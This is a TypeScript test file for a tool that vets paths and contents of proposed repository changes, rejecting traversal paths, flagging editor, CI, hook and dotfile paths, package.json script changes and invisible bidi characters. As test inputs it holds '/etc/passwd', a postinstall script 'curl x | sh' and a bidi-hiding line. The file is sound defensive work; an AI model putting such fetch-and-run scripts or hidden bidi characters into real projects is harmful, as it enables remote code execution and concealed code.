// Seer's paths are untrusted: only plain repository-relative paths name a file, and the paths that
// run code or change the editor, the repository or CI need a confirmation of their own (issue 42).
import * as assert from 'node:assert/strict';
import { describeInvisibles, invisiblesOfChange, pathReasons, repoSegments, scriptsChange } from '../../../../../src/eventsPanel/core/seer/repoPath';
import type { SeerFileChange } from '../../../../../src/model/seer/runView';

const segs = (p: string) => repoSegments(p)!;

describe("Seer: a change's path", () => {
  it('is a plain relative path, taken exactly as written, or nothing', () => {
    assert.deepEqual(repoSegments('src/app/checkout.ts'), ['src', 'app', 'checkout.ts']);
    assert.deepEqual(repoSegments(' a.ts'), [' a.ts'], 'never trimmed');
    for (const bad of ['', '/etc/passwd', '../x', 'a/../../x', './a', 'a//b', 'a/', 'a\\b', 'C:/x', 'c:x', 'a\u0000b', 'a\nb', 'a\u0085b', `${'a/'.repeat(70)}b`, 'x'.repeat(1025)]) {
      assert.equal(repoSegments(bad), undefined, JSON.stringify(bad));
    }
  });

  it('needs a confirmation where Git, VS Code, CI, hooks or dev containers run or obey it, and for any dotfile', () => {
    assert.deepEqual(pathReasons(segs('.git/hooks/post-checkout')), ['git']);
    assert.deepEqual(pathReasons(segs('.vscode/tasks.json')), ['editor']);
    assert.deepEqual(pathReasons(segs('.VSCode/settings.json')), ['editor'], 'case aside, as macOS and Windows disks');
    assert.deepEqual(pathReasons(segs('.github/workflows/ci.yml')), ['ci']);
    assert.deepEqual(pathReasons(segs('.husky/pre-commit')), ['hooks']);
    assert.deepEqual(pathReasons(segs('.devcontainer/devcontainer.json')), ['container']);
    assert.deepEqual(pathReasons(segs('.envrc')), ['dotfile']);
    assert.deepEqual(pathReasons(segs('.npmrc')), ['dotfile']);
    assert.deepEqual(pathReasons(segs('packages/web/.vscode/launch.json')), ['editor'], 'nested too');
    assert.deepEqual(pathReasons(segs('config/.env.local')), ['dotfile']);
    assert.deepEqual(pathReasons(segs('src/app/checkout.ts')), []);
    assert.deepEqual(pathReasons(segs('hooks/pre-commit')), [], 'a folder named hooks is plain code');
    assert.deepEqual(pathReasons(segs('src/che\u202Eckout.ts')), ['invisible']);
  });

  it("needs one where a package.json's scripts change, or cannot be told", () => {
    const pkg = segs('package.json');
    const a = '{"name":"x","scripts":{"test":"mocha"}}';
    assert.equal(scriptsChange(pkg, a, '{"name":"y","scripts":{"test":"mocha"}}'), false, 'the name is not a script');
    assert.equal(scriptsChange(pkg, a, '{"name":"x","scripts":{"test":"mocha","postinstall":"curl x | sh"}}'), true);
    assert.equal(scriptsChange(pkg, undefined, '{"name":"x","scripts":{"postinstall":"sh"}}'), true, 'a new package.json with scripts');
    assert.equal(scriptsChange(pkg, undefined, '{"name":"x"}'), false);
    assert.equal(scriptsChange(pkg, a, undefined), true, 'deleting it removes its scripts');
    assert.equal(scriptsChange(pkg, a, '{"name": broken'), true, 'not JSON: cannot be told');
    assert.equal(scriptsChange(segs('packages/web/package.json'), '{}', '{"scripts":{"build":"tsc"}}'), true);
    assert.equal(scriptsChange(segs('src/package.ts'), '{}', '{"scripts":{}}'), false);
  });

  it("finds the invisible characters of a change's added lines and path, with their line", () => {
    const change: SeerFileChange = {
      repo: 'r',
      path: 'a.ts',
      kind: 'modify',
      added: 1,
      removed: 1,
      hunks: [{ oldStart: 10, oldLines: 3, newStart: 10, newLines: 3, lines: [' a', '-b\u202E', '+c \u202E } if (x) {\u2066', ' d'] }],
    };
    assert.deepEqual(invisiblesOfChange(change), [
      { codePoint: 0x202e, line: 11 },
      { codePoint: 0x2066, line: 11 },
    ]);
    assert.equal(describeInvisibles(invisiblesOfChange(change)), 'U+202E (line 11), U+2066 (line 11)');
    assert.deepEqual(invisiblesOfChange({ ...change, path: 'a\u200B.ts', hunks: [] }), [{ codePoint: 0x200b }]);
  });
});
